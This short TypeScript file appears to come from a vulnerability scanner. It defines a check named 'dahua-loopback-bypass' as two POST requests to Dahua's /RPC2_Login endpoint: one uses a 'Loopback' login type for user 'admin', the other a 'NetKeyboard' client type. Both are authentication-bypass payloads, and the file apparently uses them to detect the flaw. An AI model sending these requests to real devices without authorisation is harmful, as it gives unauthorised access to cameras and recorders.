import { type Proof, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'dahua-loopback-bypass',
    post('/RPC2_Login', '{"params":{"loginType":"Loopback","userName":"admin"}}'),
    post('/RPC2_Login', '{"params":{"clientType":"NetKeyboard"}}'),
  ),
]
